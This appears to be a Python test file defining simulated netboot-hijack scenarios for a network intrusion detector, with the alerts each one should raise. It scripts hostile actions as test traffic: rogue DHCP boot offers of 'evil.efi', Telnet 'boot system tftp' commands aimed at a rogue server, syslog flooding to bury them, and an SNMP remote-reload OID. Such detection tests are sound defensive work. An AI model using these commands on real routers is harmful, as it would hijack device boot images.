"""BW30: devices that change their address, hide their traces, or share an address, a server or a relay with others."""

from __future__ import annotations

from bootwarden.scenarios.bw30_netboot_hijack import EVIL, EVIL_IMAGE, PC, hijack, rogue_image
from bootwarden.scenarios.model import Expect, Notice, SiteSpec, scenario
from bootwarden.scenarios.sites import ATTACKER, CAMPUS, DEVICE, DHCP_SERVER, HQ, ROGUE
from bootwarden.traffic import snmp, syslog, tftp
from bootwarden.traffic.dhcp import DISCOVER, OFFER, Client, addresses
from bootwarden.traffic.images import efi
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

RELAY = "10.0.9.25"
PXE_CLASS = "PXEClient:Arch:00007:UNDI:003016"
OFFERED = "10.0.6.100"


ADMINS_ONLY = SiteSpec(
    "admins-only",
    '[network]\ndevices = ["10.0.0.0/16"]\nadmin_hosts = ["10.0.9.0/24"]\nlocal = ["10.0.0.0/8"]\n',
)
"""Which servers hand out images is not declared: only who gives an order can be suspicious."""


def offered(wire: Wire, lease: str = OFFERED) -> Client:
    """A rogue server offers a PC an address and a boot file."""
    client = Client(wire, PC, vendor_class=PXE_CLASS)
    client.ask(DISCOVER)
    boot = [(66, ROGUE), (67, "evil.efi")]
    client.reply(ROGUE, OFFER, boot, yiaddr=lease, siaddr=ROGUE, file=b"evil.efi")
    return client


@scenario(
    "BW30",
    "malicious",
    site=CAMPUS,
    with_site=Expect(
        (
            Notice("Rogue_Boot_Options", OFFERED, ROGUE, "evil.efi"),
            *rogue_image(PC, "evil.efi"),
            hijack(PC, "evil.efi"),
        )
    ),
    raises_with_site=[("BW01", 0, ROGUE, "255.255.255.255"), ("BW30", 3, "10.0.6.66", "10.0.4.20")],
)
def bw30_pxe_host_leased_elsewhere(wire: Wire) -> None:
    """The same, and the PC is no declared device: what it loads counts for who told it to, under another address."""
    offered(wire)
    # Much later its operating system asks, and not to boot.
    wire.wait(90)
    Client(wire, PC, xid=0x05, asked=(1, 3, 6, 15)).lease(DHCP_SERVER, [(3, addresses("10.0.4.254"))])
    tftp.read(wire, PC, ROGUE, "evil.efi", efi(3000), offer={"tsize": 0, "blksize": 1468})


@scenario(
    "BW30",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE), ("BW30", 0, ROGUE, DEVICE)],
    site=ADMINS_ONLY,
    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, EVIL), hijack(DEVICE, EVIL))),
)
def bw30_buried_in_orders(wire: Wire) -> None:
    """A boot command is followed by many that name nothing, to bury it; then the router fetches the image."""
    session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
    session.login()
    session.typed(f"boot system tftp {EVIL} {ROGUE}")
    session.close()
    # Nobody is named in these, so nothing about them is known.
    for number in range(12):
        syslog.ios(wire, DEVICE, "%PARSER-5-CFGLOG_LOGGEDCMD: User:x  logged command:service config", sequence=number)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "malicious",
    raises=[("BW07", 0, ATTACKER, DEVICE), ("BW07", 0, ATTACKER, DEVICE), ("BW30", 0, ROGUE, DEVICE)],
    site=ADMINS_ONLY,
    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, EVIL), hijack(DEVICE, EVIL))),
)
def bw30_told_again_the_next_morning(wire: Wire) -> None:
    """A router is told to boot from elsewhere, again after 23 hours, and fetches the image two hours later."""
    for hours in (23, 2):
        session = Telnet(wire, ATTACKER, DEVICE, prompt="edge1(config)#")
        session.login()
        session.typed(f"boot system tftp {EVIL} {ROGUE}")
        session.close()
        wire.wait(hours * 3600)
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE)


@scenario(
    "BW30",
    "benign",
    site=HQ,
    with_site=Expect((Notice("Rogue_Boot_Options", OFFERED, ROGUE, "evil.efi"), *rogue_image(PC, EVIL))),
    raises_with_site=[("BW01", 0, ROGUE, "255.255.255.255"), ("BW10", 0, ROGUE, PC), ("BW20", 0, ROGUE, PC)],
)
def bw30_address_had_another_owner(wire: Wire) -> None:
    """A host fetches a rogue image and leaves; a PC that a rogue server misled is then leased the host's address."""
    tftp.read(wire, PC, ROGUE, EVIL, EVIL_IMAGE)
    wire.wait(3600)
    client = offered(wire)
    client.lease(DHCP_SERVER, [(3, addresses("10.0.4.254"))])


@scenario(
    "BW30",
    "benign",
    raises=[("BW07", 7, RELAY, syslog.COLLECTOR)],
    site=HQ,
    with_site=Expect((Notice("Boot_Command", RELAY, ROGUE, "evil.bin"),)),
)
def bw30_one_relay(wire: Wire) -> None:
    """A relay passes on what devices say that it knows by name: one is told to boot from elsewhere, others restart."""
    logged = "%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:boot system"
    syslog.send(wire, RELAY, f"<189>Jan  5 08:00:00 edge8 85: *Jan  5 08:00:00.1: {logged} tftp://{ROGUE}/evil.bin")
    wire.wait(60)
    for name in ("edge8", "edge9"):
        started = f"%SNMP-5-COLDSTART: SNMP agent on host {name} is undergoing a cold start"
        syslog.send(wire, RELAY, f"<189>Jan  5 08:01:00 {name} 2: *Mar  1 00:00:09.1: {started}")
    snmp.trap_v2(wire, RELAY, "10.0.9.30", snmp.COLD_START)


@scenario(
    "BW30",
    "benign",
    raises=[("BW05", 3, "10.0.9.10", "10.0.1.4")],
    raises_with_site=[(which, 0, ROGUE, device) for which in ("BW10", "BW20") for device in (DEVICE, "10.0.1.2")],
    site=HQ,
    with_site=Expect((*rogue_image(DEVICE), *rogue_image("10.0.1.2"))),
)
def bw30_two_devices_restart_and_fetch(wire: Wire) -> None:
    """Two devices fetch from the same rogue server; a third one restarts, and a fourth is told to by an admin."""
    tftp.read(wire, DEVICE, ROGUE, EVIL, EVIL_IMAGE, client_port=50001)
    tftp.read(wire, "10.0.1.2", ROGUE, EVIL, EVIL_IMAGE, client_port=50002)
    snmp.trap_v2(wire, "10.0.1.3", "10.0.9.30", snmp.COLD_START)
    session = Telnet(wire, "10.0.9.10", "10.0.1.4")
    session.login(user="anna")
    session.typed("reload", "Proceed with reload? [confirm]", prompt="")
    session.typed("", "")
    session.close()


DEVICE6, ROGUE6, ATTACKER6 = "fd00:1::1", "fd00:6::66", "fd00:6::6"
ADMINS6 = SiteSpec(
    "admins-over-ipv6",
    '[network]\ndevices = ["fd00:1::/32"]\nadmin_hosts = ["fd00:9::/32"]\nlocal = ["fd00::/8"]\n',
)


@scenario(
    "BW30",
    "malicious",
    raises=[("BW05", 0, ATTACKER6, DEVICE6), ("BW30", 0, ROGUE6, DEVICE6)],
    site=ADMINS6,
    with_site=Expect((Notice("Remote_Reload", DEVICE6), Notice("Netboot_Hijack", DEVICE6, ROGUE6, EVIL))),
)
def bw30_over_ipv6(wire: Wire) -> None:
    """A stranger reloads a router by SNMP, which then loads an image: all over IPv6."""
    snmp.Manager(wire, ATTACKER6, DEVICE6).set(("1.3.6.1.4.1.9.2.9.9.0", 2))
    wire.wait(90)
    tftp.read(wire, DEVICE6, ROGUE6, EVIL, EVIL_IMAGE)


ADMINS4 = SiteSpec(
    "admins-over-ipv4",
    '[network]\ndevices = ["fd00:1::/32"]\nadmin_hosts = ["10.0.9.0/24"]\nlocal = ["fd00::/8", "10.0.0.0/8"]\n',
)


@scenario(
    "BW05",
    "malicious",
    raises=[("BW05", 0, ATTACKER6, DEVICE6)],
    site=ADMINS4,
    with_site=Expect((Notice("Remote_Reload", DEVICE6),)),
)
def bw05_over_ipv6(wire: Wire) -> None:
    """A stranger reloads a router over IPv6, where all administrators have IPv4 addresses."""
    snmp.Manager(wire, ATTACKER6, DEVICE6).set(("1.3.6.1.4.1.9.2.9.9.0", 2))
